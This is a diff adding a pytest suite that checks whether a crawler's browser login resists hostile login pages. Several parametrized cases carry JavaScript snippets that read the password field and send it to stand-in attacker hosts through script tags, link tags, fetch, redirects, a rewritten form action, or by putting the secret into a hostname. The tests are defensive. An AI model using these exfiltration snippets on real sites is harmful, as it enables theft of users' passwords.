@@ -1,0 +1,137 @@
+"""C10, L7, X-N7: a login page that is hostile gets no secret out, and costs one failed login at most."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator, Sequence
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.crawl_forks import COMMANDS
+from tests.hostile_login_site import APP, EVIL, FORM, NEAR, SECRET, STEPS, HostileLoginSite, Page
+from tests.page_wall import need_browser
+from tests.site.client import write_project
+from tests.site.expected import short
+from tests.stored_rows import query_columns
+
+#: What a script does with the password when the button is pressed.
+ON_CLICK = "go.onclick = event => { const p = encodeURIComponent(document.getElementById('pass').value); %s };"
+LOAD = "const s = document.createElement('%s'); s.rel = 'stylesheet'; s.%s = %s; document.head.append(s);"
+
+
+@pytest.fixture
+def site() -> Iterator[HostileLoginSite]:
+    need_browser()
+    with HostileLoginSite() as running:
+        yield running
+
+
+def crawl(
+    folder: Path,
+    site: HostileLoginSite,
+    *,
+    include: Sequence[str] = (APP,),
+    steps: Sequence[dict[str, Any]] = STEPS,
+    **login: Any,
+) -> int:
+    """Crawls the site; what is printed is kept as well."""
+    write_project(
+        folder,
+        site.port,
+        start={"urls": [site.url()], "sitemaps": "off"},
+        scope={"include_hosts": list(include), "trap_after": 0},
+        fetch={"retries": 0, "timeout_seconds": 5},
+        render={"max_seconds": 2.0},
+        login={"type": "browser", "url": site.url("/login"), "steps": list(steps), **login},
+    )
+    ended = COMMANDS.run(folder, "crawl", "demo")
+    (folder / "printed.txt").write_text(ended.stdout + ended.stderr, "utf-8")
+    return ended.returncode
+
+
+def read_written(folder: Path) -> str:
+    """All that was printed and logged, the store and the cache."""
+    files = [path for path in folder.rglob("*") if path.is_file() and path.parent.name != "sources"]
+    return "".join(path.read_bytes().decode("latin-1") for path in files)
+
+
+def find_error(folder: Path) -> tuple[int, str]:
+    rows = query_columns(folder, "SELECT url, code, error FROM urls")
+    return next((row["code"], row["error"] or "") for row in rows if short(row["url"]).endswith(f"{APP}/"))
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        ON_CLICK % (LOAD % ("script", "src", f"'http://{EVIL}:PORT/x.js?p=' + p")),
+        ON_CLICK % (LOAD % ("link", "href", f"'http://{NEAR}:PORT/' + p")),
+        ON_CLICK % f"fetch('http://{NEAR}:PORT/x?p=' + p, {{mode: 'no-cors'}});",
+        ON_CLICK % f"event.preventDefault(); location.href = 'http://{NEAR}:PORT/x?p=' + p;",
+        f"document.forms[0].method = 'get'; document.forms[0].action = 'http://{NEAR}:PORT/x';",
+        f"document.forms[0].action = 'http://{NEAR}:PORT/x';",
+    ],
+)
+def test_c10_login_when_a_script_sends_what_was_typed_then_no_other_host_gets_it(
+    tmp_path: Path, site: HostileLoginSite, script: str
+) -> None:
+    site.put_login(script.replace("PORT", str(site.port)))
+
+    crawl(tmp_path, site, include=("acme.test",))
+
+    assert not site.told(NEAR)
+    assert not site.told(EVIL)
+    assert SECRET not in read_written(tmp_path)
+
+
+def test_n7_login_when_a_cookie_is_for_a_whole_domain_then_scripts_of_others_come_without_it(
+    tmp_path: Path, site: HostileLoginSite
+) -> None:
+    load = f"<script src=http://{NEAR}:{site.port}/x.js></script>"
+    site.put("/login", Page(FORM % load, headers=[("Set-Cookie", "all=of-acme; Domain=acme.test; Path=/")]))
+    site.put("/x.js", Page("", headers=[("Set-Cookie", "other=from-near; Domain=acme.test; Path=/")]), NEAR)
+
+    # Its address is a public one, as it is of the scope.
+    exit_code = crawl(tmp_path, site, include=("acme.test",))
+
+    assert exit_code == 0, read_written(tmp_path)[-3000:]
+    assert "/x.js" in [one.path for one in site.seen(NEAR)]
+    assert not site.told(NEAR)
+    cookies = " ".join(one.headers.get("cookie", "") for one in site.seen(APP))
+    assert "all=of-acme" in cookies
+    assert "other=from-near" not in cookies
+
+
+def test_c10_login_when_it_redirects_to_no_url_then_it_fails_at_once(tmp_path: Path, site: HostileLoginSite) -> None:
+    site.put("/login", Page("", 302, [("Location", "http://[bad/")]))
+
+    exit_code = crawl(tmp_path, site)
+
+    assert exit_code == 8
+    code, error = find_error(tmp_path)
+    assert (code, "the login redirects to what is no URL" in error) == (959, True), error
+    assert "Traceback" not in read_written(tmp_path)
+
+
+def test_c10_login_when_the_name_of_its_field_is_no_text_then_pages_are_read(
+    tmp_path: Path, site: HostileLoginSite
+) -> None:
+    site.put_login("document.getElementById('pass').name = '\\ud800';")
+
+    exit_code = crawl(tmp_path, site)
+
+    assert exit_code == 0, read_written(tmp_path)[-3000:]
+    assert "Traceback" not in read_written(tmp_path)
+
+
+def test_c10_login_when_a_page_puts_the_secret_into_a_host_then_no_message_has_it(
+    tmp_path: Path, site: HostileLoginSite
+) -> None:
+    site.put_login(ON_CLICK % "event.preventDefault(); location.href = `http://${p}.evil.test/`;")
+
+    exit_code = crawl(tmp_path, site, steps=[*STEPS, {"wait": "#members"}])
+
+    assert exit_code == 8
+    code, error = find_error(tmp_path)
+    assert (code, error.count("the page answered 200"), "it led to *** refused" in error) == (959, 1, True), error
+    assert SECRET.casefold() not in read_written(tmp_path).casefold()
